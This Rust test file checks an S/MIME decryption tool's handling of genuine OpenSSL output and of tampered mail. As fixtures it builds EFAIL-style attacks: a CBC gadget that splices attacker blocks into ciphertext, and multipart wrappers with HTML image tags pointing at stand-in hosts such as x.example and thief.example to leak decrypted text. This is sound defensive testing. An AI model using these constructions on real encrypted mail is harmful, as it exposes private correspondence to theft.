//! `kakitome decrypt` as scripts run it: what OpenSSL encrypts comes out byte for byte, and where the answer is no, standard output
//! stays empty and standard error says one line. Attack rows M01 (CBC gadgets), M02, M03 (ciphertext as a part), M05, M12 (no byte before the check).
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::cast_possible_truncation,
    reason = "tests may panic"
)]

mod hostile;

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use tempfile::TempDir;

const INSIDE: &str = "Content-Type: text/plain; charset=utf-8\r\n\r\n書留でお送りします。\r\n";

/// A key with its certificate, another of each, and programs to use them.
struct World(TempDir);

impl World {
    fn new() -> Self {
        let world = Self(tempfile::tempdir().unwrap());
        for name in ["own", "other"] {
            let (key, certificate, subject) = (format!("{name}.key"), format!("{name}.pem"), format!("/CN={name}"));
            let words =
                ["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "30", "-subj", &subject, "-keyout", &key, "-out", &certificate];
            world.openssl(&words, b"");
        }
        world
    }

    fn path(&self, name: &str) -> PathBuf {
        self.0.path().join(name)
    }

    fn openssl(&self, words: &[&str], input: &[u8]) -> Vec<u8> {
        let output = run(Command::new("openssl").current_dir(self.0.path()).args(words), input);
        assert!(output.status.success(), "openssl {words:?}: {}", String::from_utf8_lossy(&output.stderr));
        output.stdout
    }

    fn encrypted(&self, extra: &[&str]) -> Vec<u8> {
        let words = [&["cms", "-encrypt", "-binary"], extra, &["-recip", "own.pem"]].concat();
        self.openssl(&words, INSIDE.as_bytes())
    }

    fn decrypt(&self, name: &str, mail: &[u8]) -> Output {
        let mut command = Command::new(env!("CARGO_BIN_EXE_kakitome"));
        command.args(["decrypt", "--lang", "en", "--key"]).arg(self.path(&format!("{name}.key")));
        run(command.arg("--cert").arg(self.path(&format!("{name}.pem"))), mail)
    }

    /// It comes out whole.
    #[track_caller]
    fn opens(&self, mail: &[u8]) -> String {
        let output = self.decrypt("own", mail);
        let said = String::from_utf8(output.stderr).unwrap();
        assert_eq!((output.status.code(), String::from_utf8(output.stdout).unwrap().as_str()), (Some(0), INSIDE), "{said}");
        said
    }

    /// Nothing comes out, and the answer is one line.
    #[track_caller]
    fn refuses(&self, name: &str, mail: &[u8]) -> String {
        let output = self.decrypt(name, mail);
        let said = String::from_utf8(output.stderr).unwrap();
        assert_eq!((output.status.code(), output.stdout.len()), (Some(1), 0), "{said}");
        assert_eq!(said.lines().count(), 1, "{said}");
        said
    }
}

fn run(command: &mut Command, input: &[u8]) -> Output {
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    // A program that refuses its arguments does not read.
    let _ = child.stdin.take().unwrap().write_all(input);
    child.wait_with_output().unwrap()
}

/// A mail around a container.
fn mail(extra: &str, der: &[u8]) -> Vec<u8> {
    use base64::Engine as _;
    let lines: String = der.chunks(57).map(|chunk| base64::engine::general_purpose::STANDARD.encode(chunk) + "\r\n").collect();
    format!("From: a@b.example\r\nTo: c@d.example\r\nMIME-Version: 1.0\r\n{extra}\r\n{lines}").into_bytes()
}

const ENCRYPTED: &str =
    "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n";

#[test]
fn what_openssl_encrypts_comes_out_byte_for_byte() {
    let world = World::new();
    for words in [
        &["-aes-128-cbc"][..],
        &["-aes-192-cbc", "-outform", "DER"],
        &["-aes-256-cbc", "-outform", "PEM"],
        &["-aes-256-cbc", "-outform", "DER", "-stream"],
        &["-aes-128-gcm"],
        &["-aes-256-gcm", "-outform", "DER"],
        &["-aes-256-cbc", "-keyid"],
        &["-aes-256-cbc", "-keyopt", "rsa_padding_mode:oaep"],
    ] {
        // Options of a recipient stand behind it.
        let behind = words.iter().position(|word| *word == "-keyopt").unwrap_or(words.len());
        let words = [&["cms", "-encrypt", "-binary"], &words[..behind], &["-recip", "own.pem"], &words[behind..]].concat();
        world.opens(&world.openssl(&words, INSIDE.as_bytes()));
    }
}

#[test]
fn an_old_cipher_is_read_and_said() {
    let world = World::new();
    let said = world.opens(&world.encrypted(&["-des3", "-outform", "DER"]));
    assert!(said.contains("3DES") || said.contains("DES-EDE3"), "{said}");
}

#[test]
fn m05_m12_wrong_key_wrong_padding_and_wrong_tag_are_one_answer_and_no_byte() {
    let world = World::new();
    let mut answers = Vec::new();
    for cipher in ["-aes-256-cbc", "-aes-256-gcm"] {
        let der = world.encrypted(&[cipher, "-outform", "DER"]);
        let mut end = der.clone();
        *end.last_mut().unwrap() ^= 1;
        answers.push(world.refuses("own", &mail(ENCRYPTED, &end)));
        // The encrypted content key: its last octets stand just before EncryptedContentInfo's id-data.
        let data = [0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x01];
        let at = der.windows(data.len()).rposition(|window| window == data).unwrap();
        let mut key = der.clone();
        key[at - 20] ^= 1;
        answers.push(world.refuses("own", &mail(ENCRYPTED, &key)));
    }
    answers.dedup();
    assert_eq!(answers.len(), 1, "{answers:?}");
}

/// A container whose ciphertext was put together anew: its first block stands again two blocks later, behind one of the attacker's, so
/// that what is decrypted there is the attacker's too, and the end, with its padding, is as it was.
fn gadget(der: &[u8]) -> Vec<u8> {
    // id-aes128-CBC with its IV, then the ciphertext under [0].
    let algorithm = [0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x01, 0x02, 0x04, 0x10];
    let at = der.windows(algorithm.len()).position(|window| window == algorithm).unwrap() + algorithm.len() + 16;
    let ciphertext = der.len() - (der.len() - at) / 16 * 16;
    let mut gadget = der.to_vec();
    let first = der[ciphertext..ciphertext + 16].to_vec();
    gadget[ciphertext + 16..ciphertext + 32].copy_from_slice(&[0x5a; 16]);
    gadget[ciphertext + 32..ciphertext + 48].copy_from_slice(&first);
    gadget
}

#[test]
fn m01_a_cbc_gadget_is_answered_like_a_wrong_key() {
    let world = World::new();
    let inside =
        format!("Content-Type: text/plain; charset=us-ascii\r\nContent-Transfer-Encoding: 7bit\r\n\r\n{}", "secret figures\r\n".repeat(40));
    let der = world.openssl(&["cms", "-encrypt", "-binary", "-aes-128-cbc", "-outform", "DER", "-recip", "own.pem"], inside.as_bytes());
    assert_eq!(world.decrypt("own", &mail(ENCRYPTED, &der)).stdout, inside.as_bytes());
    let said = world.refuses("own", &mail(ENCRYPTED, &gadget(&der)));
    assert!(said.contains("cannot be decrypted with this key, or it is not as it was encrypted"), "{said}");
}

#[test]
fn m01_content_that_nobody_vouches_for_and_that_loads_something_is_told() {
    let world = World::new();
    let inside = b"Content-Type: text/html\r\n\r\n<p>figures <img src=\"http://thief.example/x\"></p>\r\n";
    let encrypt = |cipher| world.openssl(&["cms", "-encrypt", "-binary", cipher, "-outform", "DER", "-recip", "own.pem"], inside);
    let said = |cipher| String::from_utf8(world.decrypt("own", &mail(ENCRYPTED, &encrypt(cipher))).stderr).unwrap();
    assert!(said("-aes-256-cbc").contains("loads something from the network"), "{}", said("-aes-256-cbc"));
    assert!(!said("-aes-256-gcm").contains("loads something"), "{}", said("-aes-256-gcm"));
}

#[test]
fn m02_m03_encryption_beside_other_parts_is_not_opened() {
    let world = World::new();
    let inner = mail(ENCRYPTED, &world.encrypted(&["-aes-256-cbc", "-outform", "DER"]));
    let part = String::from_utf8(inner).unwrap();
    let part = &part[part.find("Content-Type").unwrap()..];
    for kind in ["mixed", "alternative", "related"] {
        let outer = format!(
            "From: thief@x.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/{kind}; boundary=q\r\n\r\n--q\r\nContent-Type: text/html\r\n\r\n\
             <img src=\"http://x.example/\r\n--q\r\n{part}\r\n--q\r\nContent-Type: text/html\r\n\r\n\">\r\n--q--\r\n"
        );
        assert!(world.refuses("own", outer.as_bytes()).contains("only a part"));
        // deeper, and alone in it: it is still not the whole mail
        let alone = format!("Content-Type: multipart/{kind}; boundary=r\r\n\r\n--r\r\n{part}\r\n--r--\r\n");
        let nested = outer.replace(part, &alone);
        assert!(nested.len() > outer.len());
        for hidden in [nested, format!("From: thief@x.example\r\nMIME-Version: 1.0\r\n{alone}")] {
            world.refuses("own", hidden.as_bytes());
        }
    }
    // an old mail, forwarded whole
    let old = String::from_utf8(mail(ENCRYPTED, &world.encrypted(&["-aes-256-cbc", "-outform", "DER"]))).unwrap();
    world.refuses("own", format!("From: thief@x.example\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n{old}").as_bytes());
}

/// `kakitome verify` opens with the same keys, judges what is inside, and prints nothing of it.
#[test]
fn v24_verify_opens_what_is_encrypted_and_judges_what_is_inside() {
    let world = World::new();
    let verify = |name: &str, mail: &[u8], more: &[&str]| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_kakitome"));
        command.args(["verify", "--json", "--home"]).arg(world.path("no-home")).args(more);
        if !name.is_empty() {
            command.arg("--key").arg(world.path(&format!("{name}.key"))).arg("--cert").arg(world.path(&format!("{name}.pem")));
        }
        let output = run(&mut command, mail);
        let text = String::from_utf8(output.stdout).unwrap();
        assert!(!text.contains("書留"), "nothing of the content is printed: {text}");
        let report: serde_json::Value = serde_json::from_str(&text).unwrap_or_else(|_| panic!("{:?}", output.stderr));
        (output.status.code(), report)
    };
    let plain = mail(ENCRYPTED, &world.encrypted(&["-aes-256-cbc", "-outform", "DER"]));
    let (code, report) = verify("own", &plain, &[]);
    assert_eq!((code, report["verdict"].as_str()), (Some(1), Some("unsigned")), "{report:#}");
    assert_eq!(
        (report["layers"][0]["state"].as_str(), report["layers"][0]["opened"]["authenticated"].as_bool()),
        (Some("read"), Some(false))
    );
    let (_, report) = verify("other", &plain, &[]);
    assert_eq!((report["verdict"].as_str(), report["layers"][0]["state"].as_str()), (Some("undecryptable"), Some("no-key")));
    assert_eq!(verify("", &plain, &[]).1["verdict"], "undecryptable", "without a key and without a home");
    // Signed inside: the certificate is no more than its own root here, and it is that signature which is judged.
    let signed = world.openssl(&["cms", "-sign", "-signer", "other.pem", "-inkey", "other.key", "-text"], INSIDE.as_bytes());
    let sealed = world.openssl(&["cms", "-encrypt", "-aes-256-gcm", "-outform", "DER", "-binary", "-recip", "own.pem"], &signed);
    let (_, report) = verify("own", &mail(ENCRYPTED, &sealed), &[]);
    assert_eq!((report["verdict"].as_str(), report["signers"][0]["integrity"].as_str()), (Some("untrusted"), Some("intact")), "{report:#}");
    assert_eq!((report["layers"][1]["inside"].as_u64(), &report["layers"][1]["signers"]), (Some(0), &serde_json::json!([0])));
    // A password that is asked for nowhere, a key without its certificate: said before anything is judged.
    let mut command = Command::new(env!("CARGO_BIN_EXE_kakitome"));
    assert_eq!(run(command.args(["verify", "--key"]).arg(world.path("own.key")), &plain).status.code(), Some(2));
}

#[test]
fn where_the_answer_is_no_it_says_why() {
    let world = World::new();
    let der = world.encrypted(&["-aes-256-cbc", "-outform", "DER"]);
    let said = world.refuses("other", &mail(ENCRYPTED, &der));
    assert!(said.contains("no key at hand") && said.contains("CN=own"), "{said}");
    assert!(world.refuses("own", b"From: a@b.example\r\n\r\nhello\r\n").contains("text/plain"));
    let signed =
        world.openssl(&["cms", "-sign", "-binary", "-nodetach", "-signer", "own.pem", "-inkey", "own.key", "-outform", "DER"], b"x");
    assert!(world.refuses("own", &signed).contains("SignedData"));
    assert!(world.refuses("own", &der[..der.len() - 40]).contains("cms show"));
    assert!(world.refuses("own", &mail(ENCRYPTED, b"nonsense")).contains("-: "));
}

#[test]
fn what_cannot_be_done_is_status_2() {
    let world = World::new();
    let status = |words: &[&str]| {
        let output = run(Command::new(env!("CARGO_BIN_EXE_kakitome")).arg("decrypt").args(words).current_dir(world.0.path()), b"");
        assert!(output.stdout.is_empty());
        (output.status.code(), String::from_utf8(output.stderr).unwrap())
    };
    for words in [
        &["--key", "own.key"][..],
        &["mail.eml"],
        &["--key", "missing.key", "--cert", "own.pem"],
        &["--key", "own.pem", "--cert", "own.pem"],
        &["--key", "own.key", "--cert", "own.pem", "missing.eml"],
        &["--key", "own.key", "--cert", "other.pem"],
    ] {
        let (code, said) = status(words);
        assert_eq!((code, said.lines().count()), (Some(2), 1), "{words:?}: {said}");
    }
}

#[test]
fn what_thunderbird_encrypted_comes_out() {
    let shared =
        std::env::var_os("KAKITOME_SHARED").map_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared"), PathBuf::from);
    let folder = shared.join("corpus/thunderbird/smime");
    assert!(folder.join("alice.env.eml").is_file(), "no corpus at {}: set KAKITOME_SHARED", shared.display());
    let world = World::new();
    let bob = folder.join("Bob.p12").display().to_string();
    for (option, file) in [("-nocerts", "bob.key"), ("-nokeys", "bob.pem")] {
        world.openssl(&["pkcs12", "-in", &bob, "-passin", "pass:nss", "-nodes", "-legacy", option, "-out", file], b"");
    }
    let output = world.decrypt("bob", &std::fs::read(folder.join("alice.env.eml")).unwrap());
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success() && text.contains("This is a test message from Alice to Bob."),
        "{text}{}",
        String::from_utf8_lossy(&output.stderr)
    );
}
